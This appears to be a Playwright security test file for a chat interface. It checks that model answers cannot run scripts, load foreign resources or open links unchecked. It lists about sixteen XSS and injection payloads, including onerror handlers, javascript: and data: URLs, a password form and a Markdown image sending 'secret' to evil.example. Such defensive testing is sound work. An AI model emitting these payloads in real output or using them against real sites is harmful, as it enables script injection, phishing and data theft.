import type { Page } from "@playwright/test";

import { ask, expect, open, test } from "./harness";

/** What a model may say to make a page run, load or send something. */
const ATTACKS: Record<string, string> = {
    "a script": "<script>window.hacked = true</script>",
    "a handler of an image":
        '<img src="https://evil.example/x.png" onerror="window.hacked = true">',
    "an image in Markdown": "![steal](https://evil.example/steal.png?q=secret)",
    "a script in an SVG": "<svg onload='window.hacked = true'><script>hacked = true</script></svg>",
    "an address that is a script": "[click](javascript:window.hacked=true)",
    "an address with hidden letters": "[click](java\u0000script:window.hacked=true)",
    "a page in a data address": "[page](data:text/html,<script>opener.hacked=true</script>)",
    "a frame": '<iframe src="https://evil.example/" srcdoc="<script>top.hacked=true</script>">',
    "a form": '<form action="https://evil.example/"><input name="password"><button>Log in</button>',
    "a style sheet": "<style>body { display: none } @import 'https://evil.example/x.css';</style>",
    "a base for addresses": '<base href="https://evil.example/">',
    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "a name of the document": '<a id="app" name="cookie">x</a><form name="body"></form>',
    "a template that mutates": "<math><mtext><table><mglyph><style><img src=x onerror=hacked=true>",
    "a link that loads": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "an object": '<object data="https://evil.example/x.swf"><embed src="https://evil.example/">',
};

for (const [name, attack] of Object.entries(ATTACKS)) {
    test(`${name} does nothing`, async ({ page, scripted, faults }) => {
        const foreign = watchForeign(page);
        await open(page, scripted.url);
        const answer = await ask(page, `say ${attack}\n\nafter all`);
        await expect(answer).toContainText("after all");
        await expect(answer.locator(FORBIDDEN)).toHaveCount(0);
        expect(await page.evaluate(() => "hacked" in window)).toBe(false);
        expect(foreign).toEqual([]);
        expect(faults).toEqual([]);
        await expect(page.getByRole("main")).toBeVisible();
    });
}

test("a link shows where it leads before it opens", async ({ page, scripted }) => {
    await open(page, scripted.url);
    const answer = await ask(page, "say [my bank](https://evil.example/bank)");
    await answer.getByText("my bank").click();
    const dialog = page.getByRole("dialog", { name: "Where this leads" });
    await expect(dialog).toContainText("https://evil.example/bank");
    const link = dialog.getByRole("link", { name: "Open in a new tab" });
    await expect(link).toHaveAttribute("rel", "noopener noreferrer");
    await page.keyboard.press("Escape");
    await expect(dialog).toBeHidden();
});

test("a link to a script cannot be opened", async ({ page, scripted }) => {
    await open(page, scripted.url);
    const answer = await ask(page, "say [click me](javascript:alert(1))");
    const link = answer.getByText("click me");
    if ((await link.getAttribute("role")) === "button") await link.click();
    await expect(page.getByRole("link", { name: "Open in a new tab" })).toHaveCount(0);
});

test("overrides of the direction stay within the text", async ({ page, scripted }) => {
    await open(page, scripted.url);
    const answer = await ask(page, "say `a\u202Eb` \u202Eevil\n\nstraight");
    await expect(answer).toContainText("straight");
    const outcome = answer.locator("footer");
    await expect(outcome).toContainText("Copy");
});

/** Collects the addresses on other hosts that the page asks for. */
function watchForeign(page: Page): string[] {
    const foreign: string[] = [];
    page.on("request", (request) => {
        const { hostname, protocol } = new URL(request.url());
        const isOwn = hostname === "127.0.0.1" || protocol === "blob:";
        if (!isOwn) foreign.push(request.url());
    });
    page.on("popup", (popup) => foreign.push(popup.url()));
    return foreign;
}

/** What an answer never consists of. */
const FORBIDDEN = [
    "script, style, link, meta, base, iframe, object, embed, form, input:not([disabled]), img, math",
    "[onload], [onerror], [onclick], [style], [name], [id=app], a[href]",
].join(", ");
